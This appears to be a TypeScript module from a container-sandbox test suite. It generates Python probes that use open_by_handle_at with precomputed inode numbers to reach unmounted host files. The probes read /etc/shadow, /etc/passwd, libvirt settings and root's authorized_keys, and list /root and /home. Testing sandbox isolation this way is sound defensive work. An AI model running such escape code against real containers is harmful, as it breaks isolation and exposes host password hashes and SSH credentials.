import { attempt } from "./attempt";
import { python } from "./python";

/**
 * At files of the host that are not mounted, by their inode numbers (open_by_handle_at(2)). Whoever does this has to
 * guess them; here make-container.sh has written them down.
 */
export const onHandles = [
  onHandle("shadow-handle", "The host's passwords by the number of their file", readIt("/etc/shadow")),
  onHandle(
    "passwd-handle",
    "A file of the host that everybody may read, by its number",
    readIt("/etc/passwd"),
  ),
  onHandle("libvirt-handle", "libvirt's settings by their number", readIt("/etc/libvirt/qemu.conf")),
  onHandle(
    "ssh-handle",
    "The administrator's ~/.ssh by the number of a file in it",
    readIt("/root/.ssh/authorized_keys"),
  ),
  onHandle("root-handle", "The administrator's directory by its number", listIt("/root")),
  onHandle("home-handle", "The users' directories by the number of /home", listIt("/home")),
];

function onHandle(id: string, what: string, program: string) {
  return attempt(id, what, ["label", "capabilities"], python(program));
}

function readIt(path: string): string {
  return `${openIt(path)}\nos.read(opened, 1)`;
}

function listIt(path: string): string {
  return `${openIt(path)}\nos.listdir(opened)`;
}

/** The handle of ext4 (linux/exportfs.h, FILEID_INO32_GEN): eight bytes, type 1, the number, any generation. */
function openIt(path: string): string {
  return `numbers = dict(line.split() for line in open("/var/numbers"))
handle = (ctypes.c_uint * 4)(8, 1, int(numbers["${path}"]), 0)
place = os.open("/.sandboxcontainer/log", os.O_RDONLY)
opened = check(libc.syscall(304, place, handle, os.O_RDONLY))`;
}
